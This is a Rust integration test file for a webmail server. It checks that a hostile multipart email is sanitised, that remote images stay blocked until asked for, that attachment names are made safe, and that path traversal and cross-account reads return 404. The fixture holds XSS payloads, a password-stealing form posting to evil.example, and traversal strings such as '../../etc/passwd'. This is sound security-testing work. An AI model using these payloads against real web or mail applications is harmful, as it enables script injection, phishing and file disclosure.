//! Reading mail over real HTTP: the sanitised HTML body, remote images
//! blocked then shown, cid images, attachment downloads with hostile
//! names, part-path traversal, and another account's message.

mod mail_support;

use mail_support::{ANN, BOB, Server};
use store::Flag;

/// multipart/mixed( related( html with everything hostile, png by cid ), attachments with hostile names )
const HOSTILE: &str = "From: Eve <eve@evil.example>\r\n\
To: ann@example.org\r\n\
Subject: <script>alert('subject')</script>\r\n\
Date: Sat, 21 Nov 2026 10:00:00 +0000\r\n\
Message-ID: <hostile@evil.example>\r\n\
MIME-Version: 1.0\r\n\
Content-Type: multipart/mixed; boundary=outer\r\n\
\r\n\
--outer\r\n\
Content-Type: multipart/related; boundary=rel\r\n\
\r\n\
--rel\r\n\
Content-Type: text/html; charset=utf-8\r\n\
\r\n\
<html><head><base href=\"https://evil.example/\"><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"></head>\r\n\
<body><p id=\"reply\">Hello <b>Ann</b></p><script>alert('body')</script>\r\n\
<img src=\"x\" onerror=\"alert('onerror')\">\r\n\
<a href=\"javascript:alert('link')\">click</a> <a href=\"https://example.net/page\">safe</a>\r\n\
<img src=\"https://tracker.evil.example/pixel.gif\" alt=\"pixel\">\r\n\
<img src=\"cid:logo@evil.example\" alt=\"logo\">\r\n\
<form action=\"https://evil.example/steal\"><input name=\"password\"></form></body></html>\r\n\
--rel\r\n\
Content-Type: image/png\r\n\
Content-ID: <logo@evil.example>\r\n\
Content-Transfer-Encoding: base64\r\n\
\r\n\
iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==\r\n\
--rel--\r\n\
--outer\r\n\
Content-Type: text/plain; name=\"passwd\"\r\n\
Content-Disposition: attachment; filename=\"../../etc/passwd\"\r\n\
\r\n\
root:x:0:0\r\n\
--outer\r\n\
Content-Type: text/plain\r\n\
Content-Disposition: attachment; filename*=UTF-8''%22a%0D%0Ab.txt\r\n\
\r\n\
crlf\r\n\
--outer\r\n\
Content-Type: text/html\r\n\
Content-Disposition: attachment; filename=\"<script>.html\"\r\n\
\r\n\
<script>alert('attachment')</script>\r\n\
--outer--\r\n";

#[tokio::test]
async fn html_mail_is_sanitised_and_marked_seen() {
    let server = Server::start().await;
    let uid = server.append(ANN, "INBOX", HOSTILE).await;
    let ann = server.login(ANN).await;
    let response = ann.get(&format!("/mail/INBOX/{}", uid.0)).await;
    assert_eq!(response.status(), 200);
    let csp = response.headers()["content-security-policy"].to_str().expect("csp").to_owned();
    assert!(csp.contains("img-src 'self' data:;"), "{csp}");
    let page = response.text().await.expect("page");
    let body = page.split("<div class=\"body\">").nth(1).expect("div.body").split("</article>").next().expect("end");
    for bad in [
        "<script",
        "onerror",
        "javascript:",
        "alert(",
        "tracker.evil.example",
        "<base",
        "<meta",
        "<form",
        "id=\"reply\"",
    ] {
        assert!(!body.contains(bad), "{bad} in the body: {body}");
    }
    assert!(!page.contains("<script>alert('subject')"), "subject not escaped");
    assert!(page.contains("<h1 class=\"subject\">&#60;script&#62;alert("), "subject escaped: {page}");
    assert!(body.contains("Hello <b>Ann</b>"), "{body}");
    assert!(body.contains("href=\"https://example.net/page\""), "{body}");
    assert!(body.contains("rel=\"noopener noreferrer\""), "{body}");
    assert!(body.contains(&format!("src=\"/mail/INBOX/{}/part/1.2?inline=1\"", uid.0)), "cid image: {body}");
    assert!(page.contains("id=\"show-images\""), "no show-images link");
    for element in [
        "<article id=\"message\">",
        "class=\"subject\"",
        "class=\"from\"",
        "class=\"date\"",
        "id=\"reply\"",
        "id=\"forward\"",
        "<form id=\"flag\"",
        "<form id=\"delete\"",
        "<form id=\"move\"",
        "<select id=\"move-to\" name=\"to\">",
    ] {
        assert!(page.contains(element), "{element} missing");
    }
    assert_eq!(page.matches("class=\"attachment\"").count(), 3, "three attachments listed, not the cid image");
    assert!(page.contains(">&#60;script&#62;.html</a>"), "file names escaped in the list");
    assert!(page.contains(&format!("href=\"/mail/INBOX/{}/part/2\"", uid.0)));
    let flags = server.flags(ANN, "INBOX", uid).await.expect("message");
    assert!(flags.contains(&Flag::Seen), "reading marks \\Seen: {flags:?}");
}

#[tokio::test]
async fn remote_images_only_with_images_1_and_a_csp_that_allows_them() {
    let server = Server::start().await;
    let uid = server.append(ANN, "INBOX", HOSTILE).await;
    let ann = server.login(ANN).await;
    let response = ann.get(&format!("/mail/INBOX/{}?images=1", uid.0)).await;
    assert_eq!(response.status(), 200);
    let csp = response.headers()["content-security-policy"].to_str().expect("csp").to_owned();
    assert!(csp.contains("img-src 'self' data: https: http:"), "{csp}");
    assert!(csp.contains("script-src 'self'"), "{csp}");
    let page = response.text().await.expect("page");
    assert!(page.contains("src=\"https://tracker.evil.example/pixel.gif\""), "image shown");
    assert!(!page.contains("id=\"show-images\""));
    assert!(!page.contains("<script>alert"));
}

#[tokio::test]
async fn inline_cid_image_and_hostile_attachment_names() {
    let server = Server::start().await;
    let uid = server.append(ANN, "INBOX", HOSTILE).await;
    let ann = server.login(ANN).await;
    let base = format!("/mail/INBOX/{}/part", uid.0);

    let image = ann.get(&format!("{base}/1.2?inline=1")).await;
    assert_eq!(image.status(), 200);
    assert_eq!(image.headers()["content-type"], "image/png");
    assert!(image.headers()["content-disposition"].to_str().expect("ascii").starts_with("inline;"));
    assert_eq!(&image.bytes().await.expect("png")[..4], b"\x89PNG");

    let passwd = ann.get(&format!("{base}/2")).await;
    assert_eq!(passwd.status(), 200);
    assert_eq!(passwd.headers()["content-disposition"], "attachment; filename=\"passwd\"; filename*=UTF-8''passwd");
    assert_eq!(passwd.headers()["x-content-type-options"], "nosniff");
    assert!(passwd.headers()["content-security-policy"].to_str().expect("csp").starts_with("sandbox"));

    let crlf = ann.get(&format!("{base}/3")).await;
    assert_eq!(crlf.status(), 200);
    assert_eq!(crlf.headers()["content-disposition"], "attachment; filename=\"_ab.txt\"; filename*=UTF-8''%22ab.txt");

    // HTML is never served as HTML, and inline=1 does not make it inline.
    let html = ann.get(&format!("{base}/4?inline=1")).await;
    assert_eq!(html.status(), 200);
    assert_eq!(html.headers()["content-type"], "text/plain; charset=utf-8");
    assert_eq!(
        html.headers()["content-disposition"],
        "attachment; filename=\"_script_.html\"; filename*=UTF-8''%3Cscript%3E.html"
    );
}

#[tokio::test]
async fn part_path_traversal_is_404() {
    let server = Server::start().await;
    let uid = server.append(ANN, "INBOX", HOSTILE).await;
    let ann = server.login(ANN).await;
    for path in [
        "/part/../..",
        "/part/1/../../x",
        "/part/%2e%2e",
        "/part/%2e%2e%2f%2e%2e",
        "/part/..%2f..%2fetc",
        "/part/1.0",
        "/part/9",
        "/part/1",
        "/part/-1",
        "/part/1.2.3",
    ] {
        let request = format!(
            "GET /mail/INBOX/{}{path} HTTP/1.1\r\nHost: x\r\nCookie: {}\r\nConnection: close\r\n\r\n",
            uid.0, ann.cookie
        );
        let (status, response) = server.raw_request(&request).await;
        assert_eq!(status, 404, "{path}: {response}");
        assert!(!response.contains("root:x"), "{path}");
    }
}

#[tokio::test]
async fn another_accounts_message_is_unreachable() {
    let server = Server::start().await;
    let uid = server.append(ANN, "INBOX", HOSTILE).await;
    let bob = server.login(BOB).await;
    assert_eq!(bob.get(&format!("/mail/INBOX/{}", uid.0)).await.status(), 404);
    assert_eq!(bob.get(&format!("/mail/INBOX/{}/part/2", uid.0)).await.status(), 404);
    let csrf = bob.csrf.clone();
    let response = bob.post_form(&format!("/mail/INBOX/{}/delete", uid.0), &[("csrf", &csrf)]).await;
    assert_eq!(response.status(), 404);
    assert_eq!(server.count(ANN, "INBOX").await, 1, "ann's message untouched");
    // Bob's own INBOX holding a message with the same UID shows his, not ann's.
    let own = server.append(BOB, "INBOX", "Subject: bob's own\r\n\r\nmine\r\n").await;
    assert_eq!(own, uid);
    let page = bob.get(&format!("/mail/INBOX/{}", uid.0)).await.text().await.expect("page");
    assert!(page.contains("bob&#39;s own") || page.contains("bob's own"), "{page}");
    assert!(!page.contains("Hello"));
    for path in ["/mail/INBOX/abc", "/mail/INBOX/0", "/mail/INBOX/99", "/mail/Nowhere/1", "/mail/INBOX/-1/part/1"] {
        assert_eq!(bob.get(path).await.status(), 404, "{path}");
    }
    // No session at all: the login page.
    let anonymous = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().expect("client");
    let response = anonymous.get(format!("{}/mail/INBOX/{}", bob.base, uid.0)).send().await.expect("GET");
    assert_eq!(response.status(), 303);
    assert_eq!(response.headers()["location"], "/login");
}

#[tokio::test]
async fn plain_text_is_escaped_with_links() {
    let server = Server::start().await;
    let uid = server
        .append(
            ANN,
            "INBOX",
            "From: b@example.org\r\nSubject: plain\r\n\r\n<b>not bold</b> see https://example.net/x?a=1&b=2.\r\n",
        )
        .await;
    let ann = server.login(ANN).await;
    let page = ann.get(&format!("/mail/INBOX/{}", uid.0)).await.text().await.expect("page");
    assert!(page.contains("<div class=\"body\"><pre>&lt;b&gt;not bold&lt;/b&gt;"), "{page}");
    assert!(
        page.contains("<a href=\"https://example.net/x?a=1&amp;b=2\" rel=\"noopener noreferrer\" target=\"_blank\">")
    );
    assert!(!page.contains("id=\"show-images\""));
}

#[tokio::test]
async fn mailbox_names_with_slashes_and_spaces_stay_one_segment() {
    let server = Server::start().await;
    let account = server.store.account(&mail_support::account(ANN)).await.expect("account");
    account.create_mailbox("Old/Mail <2025>").await.expect("create");
    let uid = server.append(ANN, "Old/Mail <2025>", HOSTILE).await;
    let ann = server.login(ANN).await;
    let url = format!("/mail/Old%2FMail%20%3C2025%3E/{}", uid.0);
    let response = ann.get(&url).await;
    assert_eq!(response.status(), 200);
    let page = response.text().await.expect("page");
    assert!(page.contains(&format!("href=\"/compose?reply=Old%2FMail%20%3C2025%3E/{}\"", uid.0)), "{page}");
    assert!(page.contains(&format!("action=\"{url}/delete\"")));
    let reply = ann.get(&format!("/compose?reply=Old%2FMail%20%3C2025%3E/{}", uid.0)).await;
    assert_eq!(reply.status(), 200);
    assert_eq!(ann.get(&format!("{url}/part/2")).await.status(), 200);
}
